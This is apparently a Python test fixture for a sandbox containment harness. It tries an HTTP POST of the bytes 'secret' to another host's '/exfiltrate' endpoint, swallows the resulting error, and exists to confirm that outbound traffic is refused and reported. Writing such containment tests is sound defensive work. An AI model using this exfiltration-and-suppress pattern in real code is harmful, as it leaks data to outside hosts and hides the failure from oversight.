# SUMMARY: sends a raw httpx request to another host and swallows the error; containment must make it an error
# EXERCISES: containment (harness/e2e/containment_e2e_test.cc): egress past loopback is refused and reported

import os

import httpx

other_host = os.environ["DSPY_COMPAT_TEST_LISTENER"]
try:
    httpx.post("http://%s/exfiltrate" % other_host, content=b"secret", timeout=5)
except Exception as exc:  # a program that hides the refusal still does not pass
    print("swallowed:", type(exc).__name__, exc)
print("done")
